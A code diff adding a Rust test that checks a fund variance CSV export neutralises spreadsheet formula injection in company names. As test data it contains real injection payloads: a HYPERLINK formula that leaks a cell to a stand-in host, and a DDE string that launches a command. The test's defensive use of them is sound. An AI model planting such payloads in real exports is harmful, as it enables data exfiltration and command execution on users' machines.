@@ -347,3 +347,64 @@ async fn share_pages_send_no_referrer_and_are_not_stored() {
     assert_eq!(header(&h, "referrer-policy"), "no-referrer");
     assert_eq!(header(&h, "cache-control"), "no-store");
 }
+
+// ---- 6. CSV formula injection -------------------------------------------------------------------
+
+#[tokio::test]
+async fn company_names_in_the_variance_export_cannot_run_as_formulas() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(400).await;
+    let evil = r#"=HYPERLINK("https://x/?"&B2,"x")"#;
+    let mut companies = Vec::new();
+    for name in [evil, "@SUM(1+1)", "-cmd|' /C calc'!A0", "Plain Co"] {
+        let company = app.company(&fund, name).await;
+        app.forecast(&fund, &company, "REVENUE", PERIOD, "1000000", &common::days_ago(200)).await;
+        let (s, v) = app
+            .post(
+                &format!("/api/funds/{fund}/actuals"),
+                json!({"company_id": company, "metric": "REVENUE", "value": "700000", "effective_date": common::days_ago(1), "period": PERIOD}),
+            )
+            .await;
+        assert_eq!(s, StatusCode::CREATED, "{v}");
+        companies.push(company);
+    }
+    let (s, v) = app.get(&format!("/api/funds/{fund}/variance.csv")).await;
+    assert_eq!(s, StatusCode::OK);
+    let text = v.as_str().unwrap();
+    let cells: Vec<String> = text
+        .lines()
+        .skip(1)
+        .flat_map(|line| split_csv_line(line))
+        .collect();
+    assert_eq!(text.lines().count(), 5, "{text}");
+    for cell in &cells {
+        let risky = cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+        assert!(!risky, "cell {cell:?} would run as a formula:\n{text}");
+    }
+    assert!(cells.contains(&format!("'{evil}")), "{text}");
+    assert!(cells.contains(&"'@SUM(1+1)".to_string()));
+    assert!(cells.iter().any(|c| c.starts_with('-') && c.parse::<f64>().is_ok_and(|n| n < 0.0)), "negative variances stay numeric: {text}");
+    let (_, v) = app.get(&format!("/api/funds/{fund}/actuals/template.csv")).await;
+    for cell in v.as_str().unwrap().lines().flat_map(|l| split_csv_line(l)) {
+        assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
+    }
+}
+
+/// Splits one CSV line (quotes doubled inside quoted fields; no newlines in these files).
+fn split_csv_line(line: &str) -> Vec<String> {
+    let mut cells = vec![String::new()];
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cells.last_mut().unwrap().push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => cells.push(String::new()),
+            (c, _) => cells.last_mut().unwrap().push(c),
+        }
+    }
+    cells
+}
